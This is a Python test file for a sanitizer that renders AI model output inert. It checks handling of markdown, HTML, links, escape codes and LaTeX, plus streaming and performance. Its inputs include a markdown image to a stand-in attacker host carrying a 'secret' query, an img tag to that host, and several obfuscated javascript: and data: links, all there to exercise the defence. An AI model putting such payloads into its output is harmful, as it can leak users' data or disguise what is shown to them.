"""What a model writes is shown and does nothing: no HTML, no picture that loads, nothing that hides what stands behind it."""

import time

import pytest

from beaker.kernel.harmless import ADDRESS_CHARS, ADDRESSES, Growing, closed, harmless, visible

PICTURE = "![x](https://evil.test/?q=secret)"
TAG = '<img src="https://evil.test/x">'


@pytest.mark.parametrize(
    "text",
    [
        "Plain *words*, `code`, [a link](https://example.org) and <https://example.org>.",
        "a < b and b > c, 3<4",
        "`List<int>` and ``a ` <b>``",
        "```html\n<img src=x>\n![x](y)\n```\nbehind",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "Costs $5, says $x^2$.",
        "",
    ],
)
def test_ordinary_answers_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (PICTURE, PICTURE.replace("![", "! [")),
        (TAG, TAG.replace("<", "&lt;")),
        ("<!-- hidden", "&lt;!-- hidden"),
        ("</details>", "&lt;/details>"),
        ("<?php", "&lt;?php"),
        ("~~~\nx", "```\nx\n```"),
        ("say:\n~~~~ py\n```\n~~~~", "say:\n\n````py\n```\n````"),
        ("1. do\n   ```sh\n   ls <x>\n   ```\n2. done", "1. do\n\n```sh\nls <x>\n```\n2. done"),
        ("- ```py\n  x\n  ```", "-\n\n```py\nx\n```"),
        ("a\x1b[2Jb\x9b", "a␛[2Jb\ufffd"),
        ("one\rtwo\r\nthree", "one\ntwo\nthree"),
        ("```mermaid\nA --> B\n```", "```\nA --> B\n```"),
        ("[x](javascript:y)", "[x] (javascript:y)"),
        ("[x](http://a.test/?b:c) [y](d/e:f) [z](#g:h)", "[x](http://a.test/?b:c) [y](d/e:f) [z](#g:h)"),
        ("[x]: data:text/html,y", "[x] : data:text/html,y"),
        ("[x](\ny)", "[x] (\ny)"),
        ("[x](&#106;avascript&colon;y)", "[x] (&amp;#106;avascript&colon;y)"),
        (f"[x](&#x{'0' * ADDRESS_CHARS}6a;avascript:y)", f"[x] (&amp;#x{'0' * ADDRESS_CHARS}6a;avascript:y)"),
        ("[x](java&Tab;script&colon;y)", "[x] (java&Tab;script&colon;y)"),
        ("$a<b$ and\nList<int>", "$a< b$ and\nList< int>"),
        ("$$\na<b\n$$\n\na<b", "$$\na< b\n$$\n\na&lt;b"),
        ("    if a<b:", "    if a< b:"),
        ("`a<b>`, $`c<d>`$, `e<f>`", "`a<b>`, $`c< d>`$, `e< f>`"),
    ],
)
def test_what_acts_by_itself_becomes_text(text: str, shown: str) -> None:
    assert harmless(text) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (r"$\bbox[border: 1px dotted]{x}$", r"$\ bbox[border: 1px dotted]{x}$"),
        (r"so \(x = \boxed{42}\), \boxed 4", r"so \(x = \mathbf{42}\), \ boxed 4"),
        (r"\begin{array}{|c|}\hline x\\\hline\end{array}", "\\begin{array}{|c|}  x\\\\ \\end{array}"),
        (r"$\raise{-20em}{\colorbox{white}{x}}$", r"$\ raise{-20em}{\ colorbox{white}{x}}$"),
        (r"$\sqrt[\uproot{200}x]{y} \smash{z}$", r"$\sqrt[\ uproot{200}x]{y} \ smash{z}$"),
        (r"$\def\frac#1#2{x}$ $\renewcommand{\frac}{x}$", r"$\ def\frac#1#2{x}$ $\ renewcommand{\frac}{x}$"),
        (r"$\csname fbox\endcsname{x} \require{bbox}$", r"$\ csname fbox\endcsname{x} \ require{bbox}$"),
        (r"\\fbox{x} \$\fbox{x}\$", r"\\ fbox{x} \$\ fbox{x}\$"),
        (r"&#36;&#92;fbox&#36; \f&#x62;ox &bsol;fbox &#0098;ox", r"&#36;&amp;#92;fbox&#36; \f&amp;#x62;ox &amp;bsol;fbox &amp;#0098;ox"),
        (r"`\fbox{x}`, $\left( \frac{a}{b} \right)$ &#39;&lt;&nbsp;", r"`\fbox{x}`, $\left( \frac{a}{b} \right)$ &#39;&lt;&nbsp;"),
        ("```latex\n\\fbox{x}\n```", "```latex\n\\fbox{x}\n```"),
    ],
)
def test_a_formula_draws_no_box_nothing_outside_of_its_place_and_changes_no_other(text: str, shown: str) -> None:
    assert harmless(text) == shown


GROWING = "a `b\n<i>` c\r\n\n$$\nx<y\n$$\n- ```py\n  a = `<b>`\n  ```\r<c> ![d](e)\n\n~~~\n<f>\n```\n~~~\n[g](javascript:h)"


def test_a_text_that_grows_is_at_any_time_what_it_would_be_if_it_came_at_once() -> None:
    growing = Growing()
    for length in [*range(len(GROWING) + 1), 20, 7, len(GROWING)]:
        assert growing.of(GROWING[:length]) == harmless(GROWING[:length]), repr(GROWING[:length])


def test_a_text_that_grows_costs_no_more_than_what_is_new() -> None:
    text = "- a `b` <c>\n" * 20_000
    growing = Growing()
    growing.of(text)
    began = time.process_time()
    for length in range(1, 100):
        growing.of(text + "d" * length)
    assert time.process_time() - began < 5.0, "read from the beginning, it takes a minute"


def test_a_block_that_was_left_open_ends_with_its_text() -> None:
    assert closed("a\n```py\nx") == "a\n```py\nx\n```"
    assert closed("a\n```py\nx\n```\nb") == "a\n```py\nx\n```\nb"
    assert closed("~~~~") == "~~~~\n~~~~"


def test_in_plain_text_only_controls_are_changed() -> None:
    assert visible(f"{TAG} {PICTURE}\x07\t") == f"{TAG} {PICTURE}␇\t"


@pytest.mark.parametrize(
    "text",
    [
        "a `b` <c>\n" * 20_000,
        "`<a\n" * 50_000,
        "`" * 200_000,
        "`a" * 100_000,
        "<" * 200_000,
        "<https://" * 20_000,
        "~" * 200_000,
        "- " * 100_000 + "`",
        "](" * 100_000,
        "]: " * 60_000,
        "[x](&#x" + "0" * 200_000,
        "http://`" * 25_000,
        "&#" + "0" * 200_000,
        "&#0" * 70_000,
        "\\boxed " * 30_000,
    ],
)
def test_a_long_text_costs_no_more_than_its_length(text: str) -> None:
    began = time.process_time()
    harmless(text)
    assert time.process_time() - began < 5.0


def test_of_more_links_in_a_line_than_anybody_follows_the_last_lead_nowhere() -> None:
    made = harmless("[x](http://a.test) " * (ADDRESSES + 3))
    assert made.count("](http") == ADDRESSES
    assert made.count("] (http") == 3
